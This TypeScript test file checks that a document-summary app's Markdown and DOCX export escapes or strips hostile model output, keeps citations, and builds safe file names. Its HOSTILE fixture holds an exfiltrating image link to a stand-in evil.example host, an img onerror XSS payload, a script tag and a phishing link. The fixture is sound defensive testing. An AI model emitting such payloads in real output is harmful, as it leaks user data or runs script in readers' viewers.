import JSZip from 'jszip';
import mammoth from 'mammoth';
import type { Nodes } from 'mdast';
import { describe, expect, it } from 'vitest';
import { exportSummary } from '../../../electron/core/export/exportSummary';
import { exportFileName } from '../../../electron/core/export/reportModel';
import { parseMarkdown, plainText } from '../../../electron/core/export/safeMarkdown';
import { MARKDOWN_SENTENCES, REDACTED_SENTENCE, redactedSummary } from '../../helpers/redactedSummary';
import type { HistoryEntry } from '../../../shared/ipc/contract';
import type { SummaryResult } from '../../../shared/summary';
import { summaryFixture } from '../jobs/summaryFixture';

const NOW = new Date('2026-11-28T12:34:00.000Z');
const SHA = '3f'.repeat(32);

function entryOf(summary: SummaryResult, fileName = summary.document.fileName ?? 'x.pdf'): HistoryEntry & { summary: SummaryResult } {
  return { id: 'e1', fileName, sha256: SHA, pageCount: summary.document.pageCount, provider: summary.provider, model: summary.model, createdAt: summary.createdAt, summary };
}

const HOSTILE = [
  '# Summary',
  '',
  '## Obligations',
  '',
  'The supplier delivers **monthly** [p. 2, §4.1]. ![logo](https://evil.example/leak?q=secret) <img src=x onerror=alert(1)>',
  '',
  '1. Pay within 30 days [p. 3, §5.2]',
  '2. Keep records',
  '   - for seven years [p. 4, ARTICLE IV]',
  '',
  'See [the portal](http://evil.example/phish) and [p. 5].',
  '',
  '[p. 5]: https://evil.example/ref',
  '',
  '<script>alert("x")</script>',
  '',
  '```',
  '# not a heading',
  '```',
  '',
].join('\n');

function decode(data: string): Buffer {
  return Buffer.from(data, 'base64');
}

function nodeTypes(node: Nodes, out: string[] = []): string[] {
  out.push(node.type);
  if ('children' in node) for (const c of node.children) nodeTypes(c, out);
  return out;
}

describe('exportSummary: Markdown', () => {
  it('carries the provenance, the summary with its citations, and the key terms with theirs', async () => {
    const file = await exportSummary(entryOf(summaryFixture('Acme')), 'markdown', { now: NOW });
    expect(file.fileName).toBe('Acme supply agreement - summary.md');
    expect(file.mimeType).toBe('text/markdown; charset=utf-8');
    const md = decode(file.data).toString('utf8');
    expect(md.startsWith('# Summary of Acme supply agreement.pdf\n')).toBe(true);
    for (const line of [
      '- **File:** Acme supply agreement.pdf',
      `- **SHA-256:** \`${SHA}\``,
      '- **Pages:** 7',
      '- **Model:** tiny-test-model.gguf (local)',
      '- **Summarised:** 2026-11-28 10:00 UTC',
      '- **Exported:** 2026-11-28 12:34 UTC',
      '| Parties | Acme Ltd (Supplier); Buyer Inc (Buyer) | [p. 1] |',
      '| Governing law | New York | [p. 7, §12.1] |',
    ]) {
      expect(md).toContain(line);
    }
    expect(md).toMatch(/- \*\*Mode:\*\* Local · offline/);
    expect(md).toContain('The supplier (Acme) must deliver monthly [p. 2, §4.1].');
    expect(md).toContain('- Liability is capped at fees paid [p. 5, §9.2].');
    // The summary's "## Overview" sits below the report's "## Summary".
    expect(md).toContain('## Summary\n\n### Overview');
  });

  it('neutralises images, links, link definitions and raw HTML from a hostile summary while keeping the citations', async () => {
    const md = decode((await exportSummary(entryOf(summaryFixture('Acme', { markdown: HOSTILE })), 'markdown', { now: NOW })).data).toString('utf8');
    const types = nodeTypes(parseMarkdown(md));
    for (const banned of ['image', 'imageReference', 'link', 'linkReference', 'definition', 'html']) expect(types).not.toContain(banned);
    expect(md).not.toContain('evil.example');
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(md).toContain('&lt;script&gt;alert("x")&lt;/script&gt;');
    expect(md).toContain('See the portal and [p. 5].');
    expect(md).toContain('1. Pay within 30 days [p. 3, §5.2]');
    expect(md).toContain('   - for seven years [p. 4, ARTICLE IV]');
    // Code blocks are left alone; the summary's own "# Summary" is not printed twice.
    expect(md).toContain('```\n# not a heading\n```');
    expect(md.match(/Summary\n/g)).toHaveLength(1);
  });

  it('escapes a hostile file name and key-term values so they stay text', async () => {
    const summary = summaryFixture('Acme');
    summary.keyTerms = { payment: { value: 'USD 10 | <b>bold</b> ![i](http://e/x)', text: 'x', citations: [{ blockId: 'p3.1', page: 3, clause: '5.1' }], warning: 'model said USD 12' } };
    const md = decode((await exportSummary(entryOf(summary, 'Deal <img src=x>|[a](http://e).pdf'), 'markdown', { now: NOW })).data).toString('utf8');
    const types = nodeTypes(parseMarkdown(md));
    expect(types).not.toContain('html');
    expect(types).not.toContain('image');
    expect(types).not.toContain('link');
    expect(md).toContain('| Payment | USD 10 \\| \\<b\\>bold\\</b\\> !\\[i\\](http://e/x) (model said USD 12) | [p. 3, §5.1] |');
  });

  it('falls back to the points, each with its citations, when the summary has no markdown', async () => {
    const md = decode((await exportSummary(entryOf(summaryFixture('Acme', { markdown: '' })), 'markdown', { now: NOW })).data).toString('utf8');
    expect(md).toContain('- The supplier (Acme) must deliver monthly. [p. 2, §4.1]');
    expect(md).toContain('- Liability is capped at fees paid. [p. 5, §9.2]');
  });

  it('names cloud and extractive modes and lists document warnings', async () => {
    const cloud = summaryFixture('Acme', {
      provider: 'api.example.com',
      providerKind: 'cloud',
      warnings: [{ code: 'OCR_NEEDED', message: 'Page 3 has no text layer.', page: 3 }],
    });
    const md = decode((await exportSummary(entryOf(cloud), 'markdown', { now: NOW })).data).toString('utf8');
    expect(md).toContain('- **Mode:** Cloud · api.example.com');
    expect(md).toContain('## Warnings\n\n- Page 3 has no text layer. (p. 3)');
    const extractive = decode((await exportSummary(entryOf(summaryFixture('Acme', { provider: 'extractive', providerKind: 'extractive', model: 'extractive v1' })), 'markdown', { now: NOW })).data).toString();
    // The model-free summary names no model: its stored version id, in summaries old and new, is not printed.
    expect(extractive).toContain('- **Model:** Quick summary (no model)\n');
    expect(extractive).toContain('- **Mode:** Quick summary (no model) · sentences selected from the document');
    expect(extractive).not.toContain('extractive v1');
  });
});

describe('exportSummary: DOCX', () => {
  it('reads back (mammoth) with the provenance, headings, lists, key terms and citations', async () => {
    const file = await exportSummary(entryOf(summaryFixture('Acme', { markdown: HOSTILE })), 'docx', { now: NOW });
    expect(file.fileName).toBe('Acme supply agreement - summary.docx');
    expect(file.mimeType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    const buffer = decode(file.data);
    const { value: text } = await mammoth.extractRawText({ buffer });
    for (const expected of [
      'Summary of Acme supply agreement.pdf',
      'Acme supply agreement.pdf',
      SHA,
      'tiny-test-model.gguf (local)',
      '2026-11-28 10:00 UTC',
      '2026-11-28 12:34 UTC',
      'Obligations',
      'The supplier delivers monthly [p. 2, §4.1].',
      'Pay within 30 days [p. 3, §5.2]',
      'for seven years [p. 4, ARTICLE IV]',
      'See the portal and [p. 5].',
      'Acme Ltd (Supplier); Buyer Inc (Buyer)',
      '[p. 7, §12.1]',
    ]) {
      expect(text).toContain(expected);
    }
    const { value: html } = await mammoth.convertToHtml({ buffer });
    expect(html).toContain('<h1>Summary</h1>');
    expect(html).toContain('<h2>Obligations</h2>');
    expect(html).toMatch(/<ol><li>Pay within 30 days \[p\. 3, §5\.2\]<\/li><li>Keep records<ul><li>for seven years/);
    expect(html).toContain('<h1>Key terms</h1>');
    expect(html).toMatch(/<table>.*Governing law.*New York.*\[p\. 7, §12\.1\]/s);
    // Raw HTML from the model is shown as text, never as markup.
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).not.toMatch(/<img|<script/);
  });

  it('embeds nothing and links nowhere, and tags the file with its title and creator', async () => {
    const buffer = decode((await exportSummary(entryOf(summaryFixture('Acme', { markdown: HOSTILE })), 'docx', { now: NOW })).data);
    const zip = await JSZip.loadAsync(buffer);
    const names = Object.keys(zip.files);
    expect(names.filter((n) => n.startsWith('word/media/'))).toEqual([]);
    for (const name of names.filter((n) => !zip.files[n]?.dir)) {
      const xml = await zip.file(name)?.async('string');
      expect(xml).not.toContain('evil.example');
      expect(xml).not.toContain('TargetMode="External"');
    }
    const core = await zip.file('docProps/core.xml')?.async('string');
    expect(core).toContain('Summary of Acme supply agreement.pdf');
    expect(core).toContain('Precis');
    const documentXml = (await zip.file('word/document.xml')?.async('string')) ?? '';
    // Citations are their own coloured runs.
    expect(documentXml).toMatch(/<w:color w:val="1F4E9A"\/>.*?<w:t[^>]*>\[p\. 2, §4\.1\]<\/w:t>/s);
  });
});

describe('exportSummary: edges', () => {
  it('stops when the signal has fired', async () => {
    const controller = new AbortController();
    controller.abort();
    await expect(exportSummary(entryOf(summaryFixture('Acme')), 'docx', { signal: controller.signal })).rejects.toMatchObject({ code: 'CANCELLED' });
  });

  it('rejects an unknown format', async () => {
    await expect(exportSummary(entryOf(summaryFixture('Acme')), 'pdf' as 'docx')).rejects.toMatchObject({ code: 'INVALID_REQUEST' });
  });

  it('suggests file names that are safe on every OS', () => {
    expect(exportFileName('Lease: 12/2026 "final"?.docx', 'md')).toBe('Lease_ 12_2026 _final_ - summary.md');
    expect(exportFileName('..', 'md')).toBe('document - summary.md');
    expect(exportFileName('notes', 'docx')).toBe('notes - summary.docx');
  });
});

describe('exportSummary: contract text as written', () => {
  it('keeps "[***]" and other markdown characters from the document in both formats', async () => {
    const summary = await redactedSummary();
    const entry = { ...entryOf(summary, 'redacted.pdf'), summary };
    const md = decode((await exportSummary(entry, 'markdown', { now: NOW })).data).toString('utf8');
    const tree = parseMarkdown(md);
    const types = nodeTypes(tree);
    const shown = plainText(tree).replace(/\s+/g, ' ');
    expect(shown).toContain(REDACTED_SENTENCE);
    for (const sentence of MARKDOWN_SENTENCES) expect(shown).toContain(sentence);
    // Only the report's own markup (italic footer, code SHA-256); nothing from the sentences became emphasis, code or HTML.
    expect(types.filter((t) => t === 'emphasis')).toHaveLength(1);
    expect(types).not.toContain('html');
    expect(types.filter((t) => t === 'inlineCode')).toHaveLength(1); // the SHA-256
    const docx = decode((await exportSummary(entry, 'docx', { now: NOW })).data);
    const { value: docxText } = await mammoth.extractRawText({ buffer: docx });
    const flat = docxText.replace(/\s+/g, ' ');
    expect(flat).toContain(REDACTED_SENTENCE);
    for (const sentence of MARKDOWN_SENTENCES) expect(flat).toContain(sentence);
  });

  it('escapes the points of a summary that has no markdown', async () => {
    const summary = { ...(await redactedSummary()), markdown: '' };
    const md = decode((await exportSummary({ ...entryOf(summary, 'redacted.pdf'), summary }, 'markdown', { now: NOW })).data).toString('utf8');
    expect(plainText(parseMarkdown(md)).replace(/\s+/g, ' ')).toContain(REDACTED_SENTENCE);
  });
});
